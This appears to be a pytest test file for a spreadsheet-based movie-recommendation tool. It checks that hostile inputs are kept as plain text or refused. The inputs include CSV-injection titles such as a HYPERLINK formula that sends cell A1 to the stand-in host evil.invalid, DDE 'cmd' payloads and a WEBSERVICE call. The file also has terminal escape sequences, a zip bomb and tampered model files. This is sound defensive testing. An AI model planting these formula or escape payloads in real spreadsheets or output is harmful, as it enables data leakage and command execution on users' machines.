"""Hostile data (issue 12): titles that would be formulas or terminal commands, ratings and ids no float32/int64
fit holds, mixed encodings, files that are not files, archives that lie, model files that lie, and settings whose
memory or time no machine has. Each is refused in one line within bounded time and memory, or (titles) kept as
the plain text it is.
"""
from __future__ import annotations

import os
import shutil
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import torch
from lxml import etree
from openpyxl import Workbook, load_workbook

from hostile import ROOT, baseline_mb, in_process, lie_about_size, part_of, xlcollab
from xlcollab.book import libreoffice
from xlcollab.book.filebook import FileBook
from xlcollab.book.ooxml import q
from xlcollab.core.data import Ratings, load_ratings
from xlcollab.core.fit import CollabFit
from xlcollab.errors import DataError

# OWASP's CSV-injection starters, and the issue's own titles
HOSTILE_TITLES = ['=HYPERLINK("http://evil.invalid/?"&A1,"click me")', "=cmd|' /C calc'!A0", "=WEBSERVICE(\"http://x\")",
                  "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1", "+cmd|' /C calc'!A0"]
ESCAPE = "\x1b[2J\x1b]0;pwned\x07Title"


def hostile_ratings(n: int = 20) -> Ratings:
    """n users x n movies, every pair rated, every title hostile (formula starters, terminal escapes)."""
    rng = np.random.default_rng(0)
    users, items = np.meshgrid(np.arange(1, n + 1), np.arange(1, n + 1), indexing="ij")
    frame = pd.DataFrame({"user": users.ravel(), "item": items.ravel(),
                          "rating": rng.integers(1, 11, n * n) / 2.0})
    titles = [HOSTILE_TITLES[i % len(HOSTILE_TITLES)] + ("" if i < len(HOSTILE_TITLES) else f" #{i}") for i in range(n - 1)]
    titles.append(ESCAPE)
    return Ratings(frame, pd.Series(titles, index=np.arange(1, n + 1), dtype=object), "hostile titles")


@pytest.fixture(scope="module")
def hostile_model(tmp_path_factory) -> Path:
    ratings = hostile_ratings()
    return CollabFit(n_factors=3, epochs=2, valid_pct=0.1).fit(ratings).save(tmp_path_factory.mktemp("m") / "m.pt")


# -- text is text -------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["collab_filter.xlsx", "collab_filter.xlsm"])
def test_hostile_titles_stay_text_in_the_results_sheet(tmp_path: Path, name: str) -> None:
    """The issue's 64 live formulas (DDE, WEBSERVICE, HYPERLINK leaking A1): now not one <f> on the sheet, and every
    title a string cell holding exactly its text."""
    from xlcollab import excel
    path = Path(shutil.copy(ROOT / "workbooks" / name, tmp_path / name))
    excel.fit_movielens(FileBook(path), ratings=hostile_ratings(), epochs=1, n_factors=3)
    with zipfile.ZipFile(path) as z:
        sheet = etree.fromstring(z.read(part_of(path, "results")))
    assert not list(sheet.iter(q("f"))), "a formula on the results sheet"
    texts = ["".join(c.itertext()) for c in sheet.iter(q("c")) if c.get("t") == "inlineStr"]
    hostile = [t for t in texts if t[:1] in "=+-@\t\r"]
    assert len(hostile) >= 10 and {t.split(" #")[0] for t in hostile} <= set(HOSTILE_TITLES), hostile
    ws = load_workbook(path, read_only=False)["results"]
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                assert cell.data_type == "s", (cell.coordinate, cell.value)


@pytest.mark.libreoffice
@pytest.mark.skipif(not libreoffice.available(), reason="LibreOffice not installed")
def test_libreoffice_reads_the_hostile_titles_as_text(tmp_path: Path) -> None:
    """A real spreadsheet engine opens the sheet and recalculates: the titles come back as the same text."""
    from xlcollab import excel
    path = Path(shutil.copy(ROOT / "workbooks" / "collab_filter.xlsx", tmp_path / "c.xlsx"))
    excel.fit_movielens(FileBook(path), ratings=hostile_ratings(), epochs=1, n_factors=3)
    (out,) = libreoffice.recalc([path], tmp_path / "lo")
    values = {c.value for row in load_workbook(out, data_only=True)["results"].iter_rows() for c in row}
    assert "=cmd|' /C calc'!A0" in values and '=HYPERLINK("http://evil.invalid/?"&A1,"click me")' in values
    assert "=1+1" in values and "click me" not in values  # neither the sum nor the link was evaluated


def test_terminal_escapes_are_printed_escaped(hostile_model: Path) -> None:
    run = xlcollab("recommend", "--model", hostile_model, "--movie", "20", "-n", "19").ok()
    assert "\x1b" not in run.out and "\x07" not in run.out and "most like \\x1b[2J\\x1b]0;pwned\\x07Title" in run.out
    err = xlcollab("recommend", "--model", hostile_model, "--user", "\x1b[31mred").refused("unknown user")
    assert "\x1b" not in err and "\\x1b[31mred" in err


# -- ratings files ------------------------------------------------------------------------------------------------------
def write(path: Path, text: str | bytes) -> Path:
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


@pytest.mark.parametrize("rating", ["1e308", "-1e30", "1e30", "3.5e13"])
def test_ratings_no_float32_fit_holds(tmp_path: Path, capsys, rating: str) -> None:
    """Were accepted, then reported as "loss became nan - try a lower learning rate"."""
    f = write(tmp_path / "r.csv", f"userId,movieId,rating\n1,1,3\n1,2,{rating}\n2,1,4\n")
    in_process(capsys, "fit", f, "--epochs", "1").refused(r"r\.csv: row 3, column rating: .* is outside \+-1e\+12")


@pytest.mark.parametrize("uid", ["1000000000000000000000000000000", "-9223372036854775809", "18446744073709551615"])
def test_ids_outside_int64(tmp_path: Path, capsys, uid: str) -> None:
    """Were wrapped to -9223372036854775808 and reported as duplicates."""
    f = write(tmp_path / "r.csv", f"userId,movieId,rating\n5,1,3\n{uid},1,4\n")
    line = in_process(capsys, "fit", f, "--epochs", "1").refused(r"row 3, column userId.* is outside what a 64-bit integer holds")
    assert "-9223372036854775808" not in line and "twice" not in line


def test_one_latin1_byte_in_a_utf8_titles_file_garbles_nothing(tmp_path: Path) -> None:
    """Was decoded whole as Latin-1: 39 of 40 titles garbled. Now each line is decoded on its own."""
    folder = tmp_path / "ml"
    folder.mkdir()
    write(folder / "ratings.csv", "userId,movieId,rating,timestamp\n" + "".join(f"1,{m},4,0\n" for m in range(1, 41)))
    names = [f"Amélie {m} – Café ☕" for m in range(1, 41)]
    lines = [f"{m},{t},Drama\n".encode() for m, t in zip(range(1, 41), names)]
    lines[17] = "18,Na".encode() + b"\xefve (1999),Drama\n"  # one Latin-1 byte
    write(folder / "movies.csv", b"movieId,title,genres\n" + b"".join(lines))
    titles = load_ratings(folder).titles
    assert titles[18] == "Naïve (1999)"
    assert [titles[m] for m in range(1, 41) if m != 18] == [t for m, t in zip(range(1, 41), names) if m != 18]


def test_mixed_encodings_in_a_ratings_csv_with_titles(tmp_path: Path) -> None:
    f = write(tmp_path / "r.csv", "user,item,rating,title\n1,1,4,Café ☕\n".encode() + b"2,2,3,Na\xefve\n")
    r = load_ratings(f)
    assert sorted(r.titles.tolist()) == ["Café ☕", "Naïve"]


def test_one_non_numeric_movie_id_names_its_row(tmp_path: Path, capsys) -> None:
    """Silently turned every id into text, so no title matched any rating."""
    folder = tmp_path / "ml"
    folder.mkdir()
    write(folder / "ratings.csv", "userId,movieId,rating,timestamp\n1,1,4,0\n1,2,4,0\n")
    write(folder / "movies.csv", "movieId,title,genres\n1,A,x\nx2,B,y\n")
    in_process(capsys, "fit", folder, "--epochs", "1").refused(r"movies\.csv: row 3, column movieId: 'x2' is not a whole-number")


@pytest.mark.parametrize("kind", ["fifo", "dev zero", "folder of nothing"])
def test_ratings_paths_that_are_not_files(tmp_path: Path, kind: str) -> None:
    p = tmp_path / "ratings.csv"
    if kind == "fifo":
        os.mkfifo(p)
        needle = "a FIFO"
    elif kind == "dev zero":
        p.symlink_to("/dev/zero")
        needle = "a character device"
    else:
        p.mkdir()
        needle = "no MovieLens ratings file"
    xlcollab("fit", p, "--epochs", "1").refused(needle, max_s=30)


def test_a_1_mb_zip_with_a_256_mb_title(tmp_path: Path) -> None:
    """Needed over 8 GB; the line cap stops it a megabyte in."""
    z = tmp_path / "ml-hostile.zip"
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("ml/ratings.csv", "userId,movieId,rating,timestamp\n1,1,3,0\n")
        with zf.open("ml/movies.csv", "w") as w:
            w.write(b"movieId,title,genres\n1,")
            block = b"A" * (1 << 20)
            for _ in range(256):
                w.write(block)
            w.write(b",Drama\n")
    assert z.stat().st_size < 1_000_000
    xlcollab("fit", z, "--epochs", "1").refused(r"movies\.csv: line 2 is longer than 1 MB",
                                                max_mb=baseline_mb("fit") + 128)


def test_a_ratings_zip_whose_directory_lies(tmp_path: Path) -> None:
    z = tmp_path / "ml.zip"
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("ml/ratings.csv", "userId,movieId,rating,timestamp\n1,1,3,0\n")
        zf.writestr("ml/movies.csv", "movieId,title,genres\n1,A,x\n")
    lie_about_size(z, "ml/movies.csv", 3 << 30)
    xlcollab("fit", z, "--epochs", "1").refused(r"ml/movies\.csv unpacks to 3,072 MB, over the 1,024 MB limit")


# -- model files ------------------------------------------------------------------------------------------------------
def lying_model(tmp_path: Path, good: Path, case: str) -> Path:
    blob = torch.load(good, weights_only=True)
    if case == "120,000,000 users":
        blob["n_users"], blob["user_ids"] = 120_000_000, list(range(120_000_000 // 1000))  # a 376 KB-ish file
    elif case == "a billion factors":
        blob["settings"] = {**blob["settings"], "n_factors": 1_000_000_000}
    elif case == "wrong model kind":
        blob["settings"] = {**blob["settings"], "model": "svd++"}
    elif case == "missing keys":
        del blob["seen_indptr"]
    elif case == "seen index out of range":
        blob["seen_items"] = blob["seen_items"] + 10_000
    path = tmp_path / "lying.pt"
    torch.save(blob, path)
    return path


@pytest.mark.parametrize("case,needle", [
    ("120,000,000 users", r"120,000 user ids and .* movie ids for 120,000,000 users"),
    ("a billion factors", r"weights '.*' are \(\d+, 3\), but a dotbias model .* and 1000000000 factors"),
    ("wrong model kind", r"unknown model kind 'svd\+\+'"),
    ("missing keys", r"'seen_indptr' is missing"),
    ("seen index out of range", r"'seen_items' holds values outside"),
])
def test_model_files_that_lie_are_refused_before_allocating(tmp_path: Path, hostile_model: Path, case: str,
                                                            needle: str) -> None:
    bad = lying_model(tmp_path, hostile_model, case)
    line = xlcollab("recommend", "--model", bad, "--user", "1").refused(r"lying\.pt: damaged xlcollab model file: " + needle,
                                                                          max_s=30)
    assert "Traceback" not in line


@pytest.mark.parametrize("kind,needle", [("fifo", "a FIFO"), ("folder", "a folder"), ("truncated", "not an xlcollab model")])
def test_model_paths_that_are_not_model_files(tmp_path: Path, hostile_model: Path, kind: str, needle: str) -> None:
    p = tmp_path / "m.pt"
    if kind == "fifo":
        os.mkfifo(p)
    elif kind == "folder":
        p.mkdir()
    else:
        p.write_bytes(hostile_model.read_bytes()[:5000])
    xlcollab("recommend", "--model", p, "--user", "1").refused(needle, max_s=30)


def test_the_excel_functions_never_raise_and_remember_a_failed_load(tmp_path: Path, hostile_model: Path,
                                                                    monkeypatch) -> None:
    from xlcollab.core import modelfile
    from xlcollab.excel import udfs
    bad = lying_model(tmp_path, hostile_model, "wrong model kind")
    loads = []
    real = modelfile.load
    monkeypatch.setattr(modelfile, "load", lambda *a, **k: loads.append(1) or real(*a, **k))
    answers = [udfs.XC_PREDICT(1, 1, str(bad)) for _ in range(3)]
    assert answers[0].startswith("#xlcollab: ") and "unknown model kind" in answers[0] and len(set(answers)) == 1
    assert len(loads) == 1  # not retried on every recalculation
    shutil.copy(hostile_model, bad)  # the file changes: loaded again, and now it answers
    assert isinstance(udfs.XC_PREDICT(1, 1, str(bad)), float) and len(loads) == 2
    fifo = tmp_path / "pipe.pt"
    os.mkfifo(fifo)
    assert udfs.XC_RECOMMEND(1, 5, str(fifo)).startswith("#xlcollab: ") and "FIFO" in udfs.XC_RECOMMEND(1, 5, str(fifo))
    assert udfs.XC_SIMILAR(1, 5, str(tmp_path)).startswith("#xlcollab: ")


# -- settings no machine has ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("args,needle", [
    (["fit", "--batch-size", "0"], "batch_size must be a whole number >= 1, found 0"),
    (["fit", "--epochs", "1000000000"], r"1,000,000,000 epochs over 80,668 training ratings .* would take at least "
                                        r"[\d.]+ days .*\(or --force\)"),
    (["fit", "--factors", "1000000"], r"with 1,000,000 factors needs about 1\d\d\.\d GB of memory, more than this "
                                      r"machine can spare .*\(or --force\)"),
    (["solve", "{book}", "--sheet", ""], r"--sheet '' names no sheet"),
    (["solve", "{book}", "--optimizer", "adam", "--epochs", "1000000000"], r"would take at least 1\.2 days"),
    (["fit", "--save", "{tmp}/no/such/folder/m.pt"], r"cannot save the model at .*: cannot write it \(the folder "
                                                    r".* does not exist\)"),
])
def test_settings_beyond_the_machine_are_refused_up_front(tmp_path: Path, capsys, args: list[str], needle: str) -> None:
    """Run where a regression cannot hurt: epochs and factors in a measured, capped subprocess (without the checks
    they run for days or allocate 170 GB), the rest in-process."""
    book = shutil.copy(ROOT / "workbooks" / "collab_filter.xlsx", tmp_path / "c.xlsx")
    before = Path(book).read_bytes()
    argv = [a.format(book=book, tmp=tmp_path) for a in args]
    risky = any(flag in argv for flag in ("--epochs", "--factors"))
    run = xlcollab(*argv) if risky else in_process(capsys, *argv)
    run.refused(needle, max_s=40)
    assert Path(book).read_bytes() == before


@pytest.mark.libreoffice
def test_a_live_libreoffice_takes_hostile_text_as_text(office, tmp_path: Path) -> None:
    """The UNO backend's put_sheet (setDataArray) and cell writes (setString) keep "=..." and friends as text."""
    from com.sun.star.table.CellContentType import TEXT  # type: ignore[import-not-found]

    from xlcollab.book.spec import SheetSpec
    wb = Workbook()
    wb.active.title = "s"
    wb.save(tmp_path / "live.xlsx")
    book = office.open(tmp_path / "live.xlsx")
    try:
        cells = [HOSTILE_TITLES[:5], HOSTILE_TITLES[5:]]
        book.put_sheet(SheetSpec("results", cells))
        book.write("s", "A1:B1", [["=1+1", "@SUM(1,2)"]])
        book.commit()
        sheet = book.doc.Sheets.getByName("results")
        for r, row in enumerate(cells):
            for c, text in enumerate(row):
                cell = sheet.getCellByPosition(c, r)
                assert cell.getType() == TEXT, text
                assert cell.getString().replace("\r", "\n") == text.replace("\r", "\n")
        s = book.doc.Sheets.getByName("s")
        assert [(s.getCellRangeByName(ref).getType(), s.getCellRangeByName(ref).getString()) for ref in ("A1", "B1")] \
            == [(TEXT, "=1+1"), (TEXT, "@SUM(1,2)")]
    finally:
        book.close()
